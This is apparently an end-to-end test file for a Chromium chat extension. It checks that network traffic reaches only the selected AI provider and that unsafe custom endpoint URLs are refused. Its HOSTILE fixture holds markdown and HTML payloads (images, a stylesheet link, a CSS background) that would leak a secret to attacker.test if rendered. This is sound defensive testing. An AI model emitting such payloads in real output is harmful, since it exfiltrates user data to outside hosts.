/**
 * N4 egress allowlist in Chromium: during a scripted session (keys and base URLs saved, chats
 * streamed on all three providers with hostile markdown rendered, an export) every network
 * request that the extension's pages and its service worker make (Playwright records both)
 * goes to the provider origin in use at that moment: no analytics, fonts or CDNs, and nothing
 * from rendering model output. Plus the save-time check of custom endpoint URLs.
 */
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startFakes, type BuiltinId, type FakeSet } from './fakes';
import { ExtensionBrowser } from './harness';
import { configureProviders, request, SidePanel } from './pages';
import { HAS_CHROMIUM, warnIfNoChromium } from './paths';

warnIfNoChromium('egress.e2e.ts');

/** Model output that would fetch if rendered unsafely (R3), on outside hosts. */
const HOSTILE = [
  'Look: ![x](https://attacker.test/p?q=SECRET) and [ref][r] ![ref-img][i]',
  '<img src="https://attacker.test/raw.png"> <link rel="stylesheet" href="https://fonts.attacker.test/css">',
  '<div style="background:url(https://attacker.test/bg.png)">css</div>',
  '',
  '[r]: https://attacker.test/link',
  '[i]: https://attacker.test/ref.png',
].join('\n');

describe.skipIf(!HAS_CHROMIUM)('egress: only the provider in use', () => {
  let fakes: FakeSet;
  let browser: ExtensionBrowser;
  let page: Page;
  let panel: SidePanel;
  /** Origins of every http(s) request seen, in order, and `METHOD origin/path` of each. */
  const seen: string[] = [];
  const lines: string[] = [];

  beforeAll(async () => {
    fakes = await startFakes();
    browser = await ExtensionBrowser.launch();
    browser.context.on('request', (r) => {
      const url = r.url();
      if (!/^https?:/.test(url)) return;
      const u = new URL(url);
      seen.push(u.origin);
      lines.push(`${r.method()} ${u.origin}${u.pathname}`);
    });
  });
  afterAll(async () => {
    await browser?.close();
    await fakes?.close();
  });

  const originOf = (id: BuiltinId) => new URL(fakes.baseUrls[id]).origin;
  const since = (mark: number) => [...new Set(seen.slice(mark))];

  it('N4 saving keys and base URLs reaches no host at all', async () => {
    const options = await browser.openPage('options.html');
    await configureProviders(options, fakes);
    await options.close();
    expect(since(0)).toEqual([]);
  });

  it('N4 each send (stream, hostile markdown rendered) reaches only the selected provider origin', async () => {
    page = await browser.openPage('sidepanel.html');
    panel = new SidePanel(page);
    await panel.ready();
    let answers = 0;
    for (const [id, api, model] of [
      ['openai', 'openai-responses', 'gpt-5.5'],
      ['anthropic', 'anthropic-messages', 'claude-sonnet-4-6'],
      ['google', 'gemini-generate-content', 'gemini-3-pro-preview'],
    ] as const) {
      const mark = seen.length;
      fakes[id].enqueue(api, { kind: 'text', text: HOSTILE });
      await panel.choose(id, model);
      await panel.send(`Hello ${id}`);
      expect(await panel.waitForAnswer(++answers)).toBe('complete');
      await page.waitForTimeout(300); // any lazy fetch a render could start
      expect(since(mark), id).toEqual([originOf(id)]);
    }
  });

  it('N4 an export and re-opening the panel (the whole rendered history) send nothing: at most model lists of the three providers', async () => {
    const mark = seen.length;
    const id = await panel.currentConversationId();
    await request(page, 'exportConversation', { id, format: 'markdown' }).catch(() => undefined);
    await page.reload();
    await panel.ready();
    await panel.openConversation(id);
    await page.locator('[data-turn-id]').nth(5).waitFor();
    await page.waitForTimeout(300);
    const providers = (['openai', 'anthropic', 'google'] as const).map(originOf);
    for (const line of lines.slice(mark)) {
      const [method, where] = line.split(' ') as [string, string];
      expect(method, line).toBe('GET');
      expect(
        providers.some((o) => where.startsWith(`${o}/`)),
        line,
      ).toBe(true);
      expect(where, line).toMatch(/\/models$/);
    }
  });

  it('N4 custom endpoint URLs must be https unless the host is localhost, 127.0.0.1 or [::1]: anything else is refused at save', async () => {
    const options = await browser.openPage('options.html');
    const mark = seen.length;
    for (const baseUrl of [
      'http://example.com/v1',
      'http://192.168.1.2:11434/v1',
      'ftp://example.com/v1',
      'http://localhost.evil.example/v1',
    ]) {
      const reply = (await options.evaluate(
        (m) =>
          (
            globalThis as unknown as { chrome: { runtime: { sendMessage(m: unknown): Promise<unknown> } } }
          ).chrome.runtime.sendMessage(m),
        {
          type: 'saveEndpoint',
          payload: { name: 'x', baseUrl, flavor: 'generic' },
        },
      )) as { ok: boolean; error?: { code: string } };
      expect(reply.ok ? 'saved' : reply.error?.code, baseUrl).toBe('bad_request');
    }
    expect(since(mark)).toEqual([]);
    await options.close();
  });
});
